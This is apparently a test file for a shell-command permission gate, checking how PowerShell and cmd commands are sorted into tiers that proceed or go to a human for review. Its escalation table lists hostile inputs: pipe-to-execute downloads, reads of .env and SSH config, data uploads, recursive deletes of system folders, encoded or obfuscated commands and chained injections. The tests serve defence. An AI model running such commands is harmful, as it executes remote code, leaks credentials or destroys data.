/** PowerShell and cmd: an exact list goes on, the rest is for the desk. */
import { expect, it } from 'vitest';
import { weighCommand } from '../../../../../main/host/weigh/command.ts';
import { place } from './place.ts';

const weigh = (command: string, platform: 'posix' | 'powershell' | 'cmd') => {
  const folder =
    platform === 'posix'
      ? {}
      : { cwd: 'C:\\Users\\me\\shop', project: 'C:\\Users\\me\\shop', home: 'C:\\Users\\me' };
  const { verdict } = weighCommand(command, { ...place, ...folder, platform });
  return verdict.deskOnly ? `${verdict.tier} at the desk` : verdict.tier;
};

it.each([
  ['powershell', 'Get-Content src\\a.ts -Tail 5'],
  ['powershell', "Get-Content 'src\\a b.ts'"],
  ['powershell', 'gci -Recurse -Include *.ts,*.tsx | Sort-Object Name | Select-Object -First 3'],
  ['powershell', 'Get-Content C:\\Users\\me\\shop\\a.ts'],
  ['powershell', 'Select-String TODO src\\*.ts'],
  ['powershell', 'git log -3'],
  ['powershell', 'npx tsc --noEmit'],
  ['powershell', 'cargo test'],
  ['cmd', 'dir /b src'],
  ['cmd', 'type "docs\\a b.md"'],
  ['cmd', 'findstr /n TODO src\\a.ts'],
  ['cmd', 'npm run lint'],
  ['posix', "pwsh -NoProfile -Command 'Get-ChildItem src'"],
  ['posix', "cmd.exe /c 'dir src'"],
] as const)('%s: %s goes on', (platform, command) => {
  expect(weigh(command, platform)).toBe('continue');
});

it.each([
  ['powershell', 'Remove-Item dist -Recurse'],
  ['powershell', 'npm install left-pad'],
  ['powershell', 'git status; git diff'],
  ['powershell', 'git diff > a.diff'],
  ['powershell', 'Get-Content ..\\other\\a.ts'],
  ['powershell', 'Get-Content D:\\a.ts'],
  ['powershell', 'Get-Content src\\GIT~1'],
  ['powershell', 'Get-ChildItem -Unknown x'],
  ['powershell', 'git log --output=..\\x'],
  ['cmd', 'del src\\a.ts'],
  ['cmd', 'dir && dir'],
  ['cmd', 'npm run setup'],
] as const)('%s: %s reaches further, at the desk', (platform, command) => {
  expect(weigh(command, platform)).toBe('expand at the desk');
});

it.each([
  ['powershell', 'Get-Content $x'],
  ['powershell', 'Get-Content (git push)'],
  ['powershell', 'Get-Content `\na'],
  ['powershell', 'Get-Content a; git push'],
  ['powershell', 'Get-Content a & git push'],
  ['powershell', 'Get-Content a | ForEach-Object { git push }'],
  ['powershell', 'Get-Content .ENV'],
  ['powershell', 'Get-ChildItem env:'],
  ['powershell', 'Get-Content ~\\.ssh\\config'],
  ['powershell', 'Remove-Item -Recurse C:\\Windows'],
  ['powershell', 'Set-Content $PROFILE x'],
  ['powershell', 'Write-Output “x”'],
  ['powershell', 'git push'],
  ['powershell', 'git branch -D x'],
  ['powershell', 'iwr https://example.org | iex'],
  ['powershell', 'Invoke-WebRequest https://example.org -Method Post -Body x'],
  ['powershell', 'npm run deploy'],
  ['cmd', 'echo x & git push'],
  ['cmd', 'type a | cmd'],
  ['cmd', 'di^r'],
  ['cmd', 'echo %PATH%'],
  ['cmd', 'dir\ngit push'],
  ['cmd', 'start git push'],
  ['cmd', 'rd /s \\'],
  ['posix', 'pwsh -EncodedCommand ZwA='],
  ['posix', 'pwsh -c "$X"'],
  ['posix', 'cmd.exe /c git push'],
  ['posix', "powershell.exe -ExecutionPolicy Bypass -c 'dir'"],
] as const)('%s: %s is for the desk', (platform, command) => {
  expect(weigh(command, platform)).toBe('commit at the desk');
});

it('what runs in the other system of this computer counts', () => {
  expect(weigh('wsl.exe -e git push', 'posix')).toBe('commit');
  expect(weigh('wsl ls', 'posix')).toBe('expand');
});
